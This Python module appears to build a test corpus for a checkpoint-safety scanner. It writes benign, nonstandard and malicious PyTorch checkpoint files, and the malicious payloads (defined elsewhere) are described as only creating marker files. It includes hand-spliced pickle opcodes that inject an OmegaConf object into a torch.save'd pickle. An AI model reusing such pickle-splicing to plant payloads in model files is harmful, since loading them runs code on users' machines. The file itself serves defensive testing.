def trainer_checkpoint() -> dict[str, Any]:
    """model + Adam + scheduler state dicts after three real steps."""
    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 4))
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=2)
    for _ in range(3):
        opt.zero_grad()
        model(torch.randn(5, 8)).pow(2).mean().backward()
        opt.step()
        sched.step()
    return {
        "model": model.state_dict(),
        "optimizer": opt.state_dict(),
        "scheduler": sched.state_dict(),
        "epoch": 3,
    }


def omegaconf_pickle() -> tuple[bytes, bool]:
    """A torch zip holding an OmegaConf DictConfig; (bytes, loadable here).

    With omegaconf installed: a real one. Without: written by hand (NEWOBJ of
    ``omegaconf.dictconfig.DictConfig`` and a BUILD), which loads only where omegaconf exists.
    """
    try:
        from omegaconf import OmegaConf
    except ImportError:
        pass
    else:
        cfg = OmegaConf.create({"lr": 0.001, "model": {"layers": 2}})
        return torch_bytes({"state_dict": state_dict(), "hyper_parameters": cfg}), True
    cfg = (
        glob("omegaconf.dictconfig", "DictConfig")
        + EMPTY_TUPLE
        + b"\x81"  # NEWOBJ
        + pickle.dumps({"_content": {"lr": 0.001}, "_parent": None}, protocol=2)[2:-1]
        + BUILD
    )
    # Ahead of the STOP of a torch.save'd dict: one more SETITEM, "hyper_parameters": cfg.
    base = torch_bytes({"state_dict": state_dict()})
    records = zip_records(base)
    name = data_pkl_name(records)
    pkl = records[name]
    records[name] = pkl[:-1] + text("hyper_parameters") + cfg + b"s" + STOP
    out = io.BytesIO()
    write_zip(out, records)
    return out.getvalue(), False


def write_safetensors(path: Path) -> None:
    from safetensors.torch import save_file

    save_file(state_dict(), str(path), metadata={"format": "pt"})


def write_torch(obj_fn: Callable[[], Any], **kwargs: Any) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        torch.save(obj_fn(), path, **kwargs)

    return write


def _numpy_values() -> dict[str, Any]:
    return {
        "state_dict": state_dict(),
        "mean": np.array([0.485, 0.456, 0.406]),
        "best_acc": np.float64(0.913),
    }


def _namespace() -> dict[str, Any]:
    args = argparse.Namespace(lr=0.1, epochs=90, arch="resnet18", data="/data/imagenet")
    return {"state_dict": state_dict(), "args": args, "epoch": 90}


def _posix_path_concrete() -> dict[str, Any]:
    return {"state_dict": state_dict(), "output_dir": pathlib.PosixPath("/runs/exp1")}


def _defaultdict() -> dict[str, Any]:
    counts = collections.defaultdict(int, {"cat": 3, "dog": 5})
    return {"state_dict": state_dict(), "class_counts": counts}


def _whole_module() -> nn.Module:
    torch.manual_seed(0)
    return nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 4))


_BENIGN: tuple[tuple[str, str, str, str, str, Callable[[Path], None]], ...] = (
    (
        "sd_float32",
        BENIGN,
        "torch.save state dict, float32",
        TORCH_LOAD,
        "sd_float32.pt",
        write_torch(state_dict),
    ),
    (
        "sd_bfloat16",
        BENIGN,
        "torch.save state dict, bfloat16",
        TORCH_LOAD,
        "sd_bfloat16.pt",
        write_torch(lambda: state_dict(torch.bfloat16)),
    ),
    (
        "sd_int",
        BENIGN,
        "torch.save state dict, int64 and int8",
        TORCH_LOAD,
        "sd_int.bin",
        write_torch(lambda: {**state_dict(torch.int64), "q": torch.arange(4, dtype=torch.int8)}),
    ),
    (
        "trainer_adam",
        BENIGN,
        "trainer checkpoint: model + Adam + StepLR state dicts",
        TORCH_LOAD,
        "trainer_adam.pth",
        write_torch(trainer_checkpoint),
    ),
    (
        "safetensors",
        BENIGN,
        "safetensors file",
        SAFETENSORS_LOAD,
        "model.safetensors",
        write_safetensors,
    ),
    (
        "legacy_state_dict",
        BENIGN,
        "legacy (pre-1.6) state dict",
        TORCH_LOAD,
        "legacy_state_dict.pt",
        write_torch(state_dict, _use_new_zipfile_serialization=False),
    ),
    (
        "ns_numpy",
        NONSTANDARD,
        "checkpoint with a numpy array and a numpy scalar",
        TORCH_LOAD,
        "ns_numpy.pt",
        write_torch(_numpy_values),
    ),
    (
        "ns_namespace",
        NONSTANDARD,
        "checkpoint with argparse.Namespace hyperparameters",
        TORCH_LOAD,
        "ns_namespace.pth.tar",
        write_torch(_namespace),
    ),
    (
        "ns_posix_path",
        NONSTANDARD,
        "checkpoint with a pathlib.PosixPath",
        TORCH_LOAD,
        "ns_posix_path.pt",
        write_torch(_posix_path_concrete),
    ),
    (
        "ns_defaultdict",
        NONSTANDARD,
        "checkpoint with a collections.defaultdict(int)",
        TORCH_LOAD,
        "ns_defaultdict.pt",
        write_torch(_defaultdict),
    ),
    (
        "ns_whole_module",
        NONSTANDARD,
        "torch.save(nn.Sequential): a whole pickled module",
        TORCH_LOAD,
        "ns_whole_module.pt",
        write_torch(_whole_module),
    ),
)

#: Malicious entries whose loader fails once the payload has run (the bytes break after it).
BREAKS_AFTER_PAYLOAD = frozenset({"name_none_p0_broken"})

SHAPES: dict[str, str] = {
    **{name: shape for name, shape, *_ in _MALICIOUS},
    **{name: shape for name, _kind, shape, *_ in _BENIGN},
    "ns_omegaconf": "checkpoint with an OmegaConf DictConfig",
}
"""Every entry's name and what it is."""


def build_corpus(
    folder: str | os.PathLike[str], markers: str | os.PathLike[str]
) -> list[CorpusEntry]:
    """Write the whole corpus into ``folder``; malicious payloads create files in ``markers``.

    Both folders must exist. ``markers`` should be a temp folder: a malicious entry's
    payload creates ``markers / f"{name}.marker"`` when the file is loaded as its
    ``load`` says. Returns the entries in a fixed order: malicious, then benign and
    nonstandard.
    """
    folder, markers = Path(folder), Path(markers)
    entries: list[CorpusEntry] = []
    for name, shape, load, filename, write in _MALICIOUS:
        path, marker = folder / filename, markers / f"{name}.marker"
        write(path, marker)
        breaks = name in BREAKS_AFTER_PAYLOAD
        entries.append(CorpusEntry(name, path, MALICIOUS, shape, load, marker, breaks=breaks))
    for name, kind, shape, load, filename, write_benign in _BENIGN:
        path = folder / filename
        write_benign(path)
        entries.append(CorpusEntry(name, path, kind, shape, load))
    data, live = omegaconf_pickle()
    path = folder / "ns_omegaconf.ckpt"
    path.write_bytes(data)
    entries.append(
        CorpusEntry(
            "ns_omegaconf", path, NONSTANDARD, SHAPES["ns_omegaconf"], TORCH_LOAD, live=live
        )
    )
    return entries
